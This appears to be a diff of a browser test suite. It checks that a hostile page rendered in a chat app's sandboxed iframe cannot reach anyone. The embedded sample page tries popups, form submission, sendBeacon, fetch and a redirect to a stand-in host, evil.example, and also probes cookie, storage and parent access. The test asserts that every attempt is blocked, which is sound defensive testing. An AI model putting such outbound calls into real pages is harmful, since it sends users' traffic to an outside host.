@@ -32,7 +32,8 @@ attempt('popup', () => open('https://evil.example/popup'));
 attempt('form', () => f.submit());
 attempt('beacon', () => navigator.sendBeacon('https://evil.example/beacon', 'x'));
 fetch('https://evil.example/fetch').catch(() => tried.push('fetch: no')).finally(() => { said.textContent = tried.join(', '); });
-setTimeout(() => { location = 'https://evil.example/self'; }, 300);
+// Not before all that was told: the frame is empty then.
+onmessage = () => { location = 'https://evil.example/self'; };
 </script>
 ```
 """
@@ -108,7 +109,7 @@ def test_a_hostile_page_reaches_nobody(server: Server, upstream: Upstream, visit
     asked: list[str] = []
     # What the browser would send is seen here, and goes nowhere.
     person.context.route("https://evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))
-    here = chat.page.url
+    here, pages = chat.page.url, person.context.pages
     chat.answer.locator("a.view").click()
     said = chat.page.frame_locator("iframe").locator("#said")
     expect(said).to_contain_text("fetch: no")
@@ -116,8 +117,10 @@ def test_a_hostile_page_reaches_nobody(server: Server, upstream: Upstream, visit
     for name in ("cookie", "storage", "parent", "top"):
         assert f"{name}: no" in words, words
     assert "popup: null" in words
+    chat.page.evaluate("document.querySelector('iframe').contentWindow.postMessage('leave', '*')")
+    expect(said).to_have_count(0)
     chat.page.wait_for_timeout(1_000)
-    assert (asked, chat.page.url, len(person.context.pages)) == ([], here, 1)
+    assert (asked, chat.page.url, person.context.pages) == ([], here, pages)
     person.oddities.clear()
 
 
